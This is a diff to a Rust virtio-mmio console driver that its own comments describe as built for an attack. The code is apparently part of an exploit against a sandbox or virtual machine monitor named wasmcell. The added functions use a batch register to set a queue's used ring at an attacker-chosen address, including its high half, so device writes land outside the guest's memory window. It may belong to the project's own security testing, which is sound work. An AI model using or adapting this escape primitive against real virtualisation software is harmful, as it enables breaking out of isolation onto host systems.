@@ -1,7 +1,7 @@
 //! Just enough of a virtio-mmio console driver to aim it anywhere: rings and buffers at
 //! addresses the attack picks, written with plain volatile loads and stores.
 
-use wasmcell_abi::devices::console::{CONTROL_TRANSMITQ, STDOUT_TRANSMITQ};
+use wasmcell_abi::devices::console::{BATCH_REGISTER, CONTROL_TRANSMITQ, STDOUT_TRANSMITQ};
 
 const STATUS: usize = 0x070;
 const DRIVER_FEATURES: usize = 0x020;
@@ -73,6 +73,38 @@ impl Device {
             _ => used = addr,
         }
         self.setup(queue, desc, avail, used);
+    }
+
+    /// Makes the device apply a batch of register writes "at" `addr` (its low half: the device
+    /// puts the window's high half on top).
+    pub fn batch_at(&mut self, addr: u64) {
+        self.write(BATCH_REGISTER as usize, addr as u32);
+    }
+
+    /// Sets queue `queue` up through one batch (written in the heap, past the rings), with its
+    /// used ring at `used` — high half included, so the batch may aim below the window.
+    pub fn batch_ring(&mut self, queue: u32, used: u64) {
+        let (desc, avail, _) = self.rings(queue);
+        let writes = [
+            (QUEUE_SELECT, queue),
+            (QUEUE_SIZE, u32::from(SIZE)),
+            (DESC, desc as u32),
+            (AVAIL, avail as u32),
+            (USED, used as u32),
+            (USED + 4, (used >> 32) as u32),
+            (QUEUE_READY, 1),
+        ];
+        let batch = self.heap + 6 * QUEUE_STRIDE;
+        // SAFETY: the batch goes in this workload's heap (mapped read-write), past the rings.
+        unsafe {
+            let words = batch as *mut u32;
+            words.write_volatile(writes.len() as u32);
+            for (i, &(offset, value)) in writes.iter().enumerate() {
+                words.add(1 + 2 * i).write_volatile(offset as u32);
+                words.add(2 + 2 * i).write_volatile(value);
+            }
+        }
+        self.batch_at(batch);
     }
 
     fn setup(&mut self, queue: u32, desc: u64, avail: u64, used: u64) {
